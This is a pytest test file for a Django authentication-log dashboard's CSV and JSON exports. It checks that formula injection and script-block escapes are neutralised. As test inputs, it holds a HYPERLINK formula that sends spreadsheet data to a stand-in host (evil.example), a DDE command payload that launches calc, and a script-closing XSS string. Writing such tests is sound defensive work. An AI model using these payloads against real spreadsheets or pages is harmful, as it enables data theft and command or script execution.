"""Exports: the timeline's filters, streamed, spreadsheet-safe CSV, JSON records like `authlog --format json`."""

import csv
import io
import json
from datetime import UTC, datetime
from http import HTTPStatus

import pytest
from django.core.management import call_command

from authlog.export import RECORD_FIELDS

FORMULA_UA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def streamed(response) -> str:
    assert response.streaming, "exports must stream"
    return b"".join(response.streaming_content).decode()


def csv_rows(client, query: str = "") -> list[list[str]]:
    response = client.get(f"/dashboard/events.csv?{query}")
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="authtrail-events-')
    assert "no-store" in response["Cache-Control"]
    return list(csv.reader(io.StringIO(streamed(response))))


def test_csv_has_the_record_fields_and_quotes_every_cell(admin_client):
    response = admin_client.get("/dashboard/events.csv")
    text = streamed(response)
    assert text.splitlines()[0] == ",".join(f'"{name}"' for name in RECORD_FIELDS)
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())
    assert text.endswith("\r\n")


def test_csv_cells_that_start_a_formula_are_neutralised(admin_client, make_user, sign_in, failure):
    for name in ("@alice", "-1+2", "+bob"):
        sign_in(make_user(name), user_agent=FORMULA_UA)
    failure("@alice", user=None, user_agent="\t=cmd|' /C calc'!A0")
    table = csv_rows(admin_client)
    header, body = table[0], table[1:]
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {row[header.index("username")] for row in body}
    assert {"'@alice", "'-1+2", "'+bob"} <= names
    agents = {row[header.index("user_agent")] for row in body}
    assert "'" + FORMULA_UA in agents


def test_timestamps_are_iso_8601_utc(admin_client):
    table = csv_rows(admin_client)
    stamp = table[1][RECORD_FIELDS.index("timestamp")]
    assert stamp.endswith("Z") and stamp[10] == "T"
    record = json.loads(streamed(admin_client.get("/dashboard/events.json")))[0]
    assert record["timestamp"] == stamp


def test_json_has_the_records_of_the_authlog_command(admin_client, make_user, sign_in, failure):
    sign_in(make_user("alice"))
    failure("nobody")
    response = admin_client.get("/dashboard/events.json")
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    exported = json.loads(streamed(response))
    out = io.StringIO()
    call_command("authlog", "--format", "json", "--limit", "100", stdout=out)
    assert exported == json.loads(out.getvalue())
    assert all(list(record) == list(RECORD_FIELDS) for record in exported)


def test_json_cannot_close_a_script_block(admin_client, make_user, sign_in):
    sign_in(make_user("alice"), user_agent="</script><script>alert(1)</script>")
    text = streamed(admin_client.get("/dashboard/events.json"))
    assert "</script>" not in text and "<" not in text
    assert any(r["user_agent"] == "</script><script>alert(1)</script>" for r in json.loads(text))


def test_exports_take_the_timeline_filters(admin_client, make_user, sign_in, failure):
    sign_in(make_user("alice"), ip="203.0.113.5")
    failure("nobody", ip="203.0.113.6")
    failure("nobody", ip="198.51.100.1")
    records = json.loads(streamed(admin_client.get("/dashboard/events.json?ip=203.0.113.0/24")))
    assert sorted(r["ip_address"] for r in records) == ["203.0.113.5", "203.0.113.6"]
    records = json.loads(streamed(admin_client.get("/dashboard/events.json?type=login_failed")))
    assert {r["event_type"] for r in records} == {"login_failed"} and len(records) == 2
    table = csv_rows(admin_client, "type=login_failed&ip=198.51.100.1")
    assert len(table) == 2


def test_an_empty_selection_is_a_valid_empty_file(admin_client):
    assert json.loads(streamed(admin_client.get("/dashboard/events.json?user=nobody"))) == []
    assert len(csv_rows(admin_client, "user=nobody")) == 1


def test_exports_stream_in_chunks_across_both_tables(admin_client, make_user, failure, login_event, monkeypatch):
    """More rows than one keyset chunk: every row once, newest first."""
    from authlog import history

    alice = make_user("alice")
    for n in range(7):
        login_event(alice, ip=f"192.0.2.{n}")
        failure("nobody", ip=f"192.0.2.{n}")
    everything = json.loads(streamed(admin_client.get("/dashboard/events.json")))
    original = history.iter_record_values
    monkeypatch.setattr(
        "dashboard.views.iter_record_values",
        lambda *, event_filter: original(event_filter=event_filter, chunk=3),
    )
    chunked = json.loads(streamed(admin_client.get("/dashboard/events.json")))
    assert chunked == everything
    assert len({(r["event_type"], r["id"]) for r in chunked}) == len(chunked) == 15


@pytest.mark.parametrize("stored", [
    "2026-03-01 10:00:00", "2026-03-01 10:00:00.000", "2026-03-01 10:00:00.120",
    "2026-03-01 10:00:00.5", "2026-03-01 10:00:00.123456", "2026-03-01 10:00:00.000001",
    # not SQLite's own form: the general path
    "2026-03-01T10:00:00", "2026-03-01 10:00:00+02:00", None,
    datetime(2026, 3, 1, 10, 0, tzinfo=UTC), datetime(2026, 3, 1, 10, 0, 0, 7, tzinfo=UTC),
])
def test_export_time_text_is_the_records_form(stored):
    """The exports' shortcut for SQLite's time text writes what AuthEvent.as_record() writes."""
    from authlog.history import _iso, _iso_of_db_time

    assert _iso_of_db_time(stored) == _iso(stored)
